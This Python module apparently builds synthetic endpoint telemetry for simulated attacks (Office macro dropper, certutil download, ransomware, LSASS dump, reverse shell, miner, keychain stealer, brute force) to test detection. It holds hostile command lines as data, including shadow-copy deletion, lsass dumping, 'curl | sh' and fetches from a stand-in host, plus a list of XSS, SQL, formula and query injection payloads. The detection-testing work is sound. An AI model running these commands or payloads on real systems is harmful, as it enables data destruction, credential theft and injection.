"""Plays: the steps of each attack, as processes and events of a scene.

Names and command lines come from attackers, so some are hostile to whoever prints, quotes or
queries them. What an alert about a play is called belongs to `stories`.
"""

from dataclasses import dataclass

from etl.sandbox.scenes import Scene
from etl.sandbox.software import IMAGES, Image

HOSTILE = (
    'x" | take 0 //',
    "<script>alert(1)</script>",
    "=cmd|'/c calc'!A1",
    "in\u200bvoice\ufffd.exe",
    "two\r\nlines",
    'it\'s "quoted" \\ and 100 % _wild_',
    "%s {0} ${env} \u202e'; DROP TABLE alerts; --",
)
_ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQ" * 90
_BAD_HOST = "cdn-update.example.net"
_BAD_IP = "198.51.100.66"
_RUN_KEY = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


@dataclass(frozen=True, slots=True)
class Clue:
    """A thing that the alert names besides processes.

    A file, or its path alone, a url, an ip, a registry key or value, or an account by its name.
    """

    kind: str
    values: dict[str, str]


def _image(scene: Scene, name: str) -> Image:
    return next(image for image in IMAGES[scene.device.platform] if image.name == name)


def _connect(scene: Scene, by: int, port: int = 443) -> None:
    scene.do(
        "DeviceNetworkEvents",
        "ConnectionSuccess",
        by,
        RemoteIP=_BAD_IP,
        RemotePort=port,
        RemoteUrl=_BAD_HOST,
        LocalIP=scene.device.address,
        LocalPort=50_123,
        Protocol="Tcp",
        LocalIPType="Private",
        RemoteIPType="Public",
    )


def _drop(scene: Scene, by: int, path: str, action: str = "FileCreated") -> Clue:
    file = Image(path)
    scene.do(
        "DeviceFileEvents",
        action,
        by,
        FileName=file.name,
        FolderPath=path,
        SHA1=file.digest("sha1"),
        SHA256=file.digest("sha256"),
        FileSize=file.size,
        FileOriginUrl=f"https://{_BAD_HOST}/a",
        RequestProtocol="Local",
    )
    return Clue("file", {"path": path})


def macro(scene: Scene) -> list[Clue]:
    """Have a document start a script that fetches and starts a program."""
    nasty = scene.random.choice(HOSTILE)
    word = scene.spawn(
        scene.root("explorer.exe"),
        _image(scene, "WINWORD.EXE"),
        f'"WINWORD.EXE" /n "C:\\Users\\Public\\{nasty}.docm"',
    )
    shell = scene.spawn(word, _image(scene, "powershell.exe"), f"powershell.exe -enc {_ENCODED}")
    for module in ("amsi.dll", "clr.dll", "System.Management.Automation.ni.dll"):
        scene.do(
            "DeviceImageLoadEvents",
            "ImageLoaded",
            shell,
            FileName=module,
            FolderPath=f"C:\\Windows\\System32\\{module}",
            SHA1="b" * 40,
        )
    _connect(scene, shell)
    clue = _drop(scene, shell, f"C:\\Users\\Public\\update {scene.random.randrange(99)}.exe")
    loader = scene.spawn(shell, Image(clue.values["path"]), f'"update.exe" --tag "{nasty}"')
    key = f"HKEY_CURRENT_USER\\{_RUN_KEY}"
    scene.do(
        "DeviceRegistryEvents",
        "RegistryValueSet",
        loader,
        RegistryKey=key,
        RegistryValueName="Updater",
        RegistryValueData=clue.values["path"],
        RegistryValueType="String",
    )
    target = scene.ledger[loader]
    scene.do(
        "DeviceEvents",
        "CreateRemoteThreadApiCall",
        shell,
        ProcessId=target.pid,
        ProcessCreationTime=target.created,
        FileName=target.image.name,
        _subject=loader,
    )
    _connect(scene, loader, 8443)
    return [
        clue,
        Clue("url", {"url": f"https://{_BAD_HOST}/a"}),
        Clue("ip", {"address": _BAD_IP}),
        Clue("registry_value", {"name": "Updater", "value": clue.values["path"]}),
    ]


def lolbin(scene: Scene) -> list[Clue]:
    """Misuse the system's own tools to fetch and load a library."""
    shell = scene.spawn(
        scene.root("explorer.exe"),
        _image(scene, "cmd.exe"),
        f'cmd.exe /c "{scene.random.choice(HOSTILE)}"',
    )
    tool = Image("C:\\Windows\\System32\\certutil.exe", "Microsoft Corporation", "Windows")
    certutil = scene.spawn(
        shell, tool, f"certutil.exe -urlcache -f https://{_BAD_HOST}/b C:\\Users\\Public\\b.dll"
    )
    _connect(scene, certutil)
    clue = _drop(scene, certutil, "C:\\Users\\Public\\b.dll")
    rundll = Image("C:\\Windows\\System32\\rundll32.exe", "Microsoft Corporation", "Windows")
    loader = scene.spawn(shell, rundll, "rundll32.exe C:\\Users\\Public\\b.dll,#1")
    scene.do(
        "DeviceImageLoadEvents",
        "ImageLoaded",
        loader,
        FileName="b.dll",
        FolderPath=clue.values["path"],
        SHA1=Image(clue.values["path"]).digest("sha1"),
    )
    _connect(scene, loader, 8080)
    return [clue, Clue("ip", {"address": _BAD_IP})]


def ransomware(scene: Scene) -> list[Clue]:
    """Delete shadow copies and rename files one after another."""
    shell = scene.spawn(scene.root("svchost.exe"), _image(scene, "cmd.exe"), "cmd.exe /c run.bat")
    vss = Image("C:\\Windows\\System32\\vssadmin.exe", "Microsoft Corporation", "Windows")
    scene.spawn(shell, vss, "vssadmin.exe delete shadows /all /quiet")
    locker = Image("C:\\ProgramData\\locker.exe")
    crypt = scene.spawn(shell, locker, f'locker.exe -k "{scene.random.choice(HOSTILE)}"')
    for number in range(12):
        path = f"C:\\Users\\Public\\Work\\plan {number}.docx.locked"
        _drop(scene, crypt, path, "FileRenamed")
    scene.do("DeviceEvents", "AsrRansomwareAudited", crypt, FileName="plan 1.docx")
    return [Clue("file", {"path": locker.path}), Clue("registry_key", {"key": _RUN_KEY})]


def credentials(scene: Scene) -> list[Clue]:
    """Dump the memory of the process that holds passwords."""
    shell = scene.spawn(scene.root("explorer.exe"), _image(scene, "powershell.exe"))
    image = Image("C:\\Users\\Public\\Tools\\pd.exe", "Sysinternals", "ProcDump")
    dumper = scene.spawn(shell, image, "pd.exe -ma lsass.exe C:\\Users\\Public\\l.dmp")
    for action in ("OpenProcessApiCall", "ReadProcessMemoryApiCall", "CredentialsBackup"):
        scene.do(
            "DeviceEvents",
            action,
            dumper,
            FileName="lsass.exe",
            AdditionalFields='{"DesiredAccess":2097151,"TargetProcess":"lsass.exe"}',
        )
    scene.do(
        "DeviceLogonEvents",
        "LogonSuccess",
        dumper,
        LogonType="NewCredentials",
        AccountDomain="contoso",
        AccountName="svc-backup",
        LogonId=77_001,
        IsLocalAdmin=True,
    )
    return [_drop(scene, dumper, "C:\\Users\\Public\\l.dmp"), Clue("registry_key", {"key": "SAM"})]


def reverse_shell(scene: Scene) -> list[Clue]:
    """Open a shell to the outside from a script."""
    bash = scene.spawn(scene.root("sshd"), _image(scene, "bash"), "-bash")
    python = scene.spawn(
        bash,
        _image(scene, "python3.12"),
        f"python3 -c 'import pty' # {scene.random.choice(HOSTILE)}",
    )
    _connect(scene, python, 4444)
    shell = scene.spawn(python, Image("/usr/bin/sh"), "sh -i")
    clue = _drop(scene, shell, "/opt/.X11-unix/.k")
    scene.do("DeviceEvents", "ScriptContent", shell, AdditionalFields='{"ScriptContent":"id;w"}')
    return [clue, Clue("ip", {"address": _BAD_IP})]


def miner(scene: Scene) -> list[Clue]:
    """Mine a currency from a scheduled job."""
    dash = scene.spawn(scene.root("cron"), _image(scene, "dash"), "/bin/sh -c /opt/kworkerds")
    clue = _drop(scene, dash, "/opt/kworkerds")
    miner = scene.spawn(dash, Image("/opt/kworkerds"), f"./kworkerds -o {_BAD_HOST}:3333 --coin x")
    for _ in range(3):
        _connect(scene, miner, 3333)
    return [clue, Clue("url", {"url": f"stratum+tcp://{_BAD_HOST}:3333"})]


def stealer(scene: Scene) -> list[Clue]:
    """Trick a user into giving the keychain away."""
    script = Image("/usr/bin/osascript")
    ask = scene.spawn(scene.root("zsh"), script, f"osascript -e {scene.random.choice(HOSTILE)!r}")
    loader = scene.spawn(ask, Image("/bin/sh"), "sh -c 'curl -s | sh'")
    clue = _drop(scene, loader, "/Users/Shared/.helper")
    helper = scene.spawn(loader, Image("/Users/Shared/.helper"), "/Users/Shared/.helper --keychain")
    scene.do(
        "DeviceEvents",
        "SensitiveFileRead",
        helper,
        FileName="login.keychain-db",
        FolderPath="/Users/ada/Library/Keychains/login.keychain-db",
    )
    _connect(scene, helper)
    return [clue, Clue("ip", {"address": _BAD_IP})]


def brute_force(scene: Scene) -> list[Clue]:
    """Guess passwords from outside; only a long-running process of the system sees it."""
    roots = {"windows": "lsass.exe", "linux": "sshd", "macos": "launchd"}
    by = scene.root(roots[scene.device.platform])
    guesses = 15
    for attempt in range(guesses):
        scene.do(
            "DeviceLogonEvents",
            "LogonFailed" if attempt + 1 < guesses else "LogonSuccess",
            by,
            LogonType="RemoteInteractive",
            AccountDomain="contoso",
            AccountName="administrator",
            RemoteIP=_BAD_IP,
            RemoteIPType="Public",
            RemotePort=51_000 + attempt,
            Protocol="NTLM",
            FailureReason="InvalidUserNameOrPassword",
        )
    return [Clue("ip", {"address": _BAD_IP})]
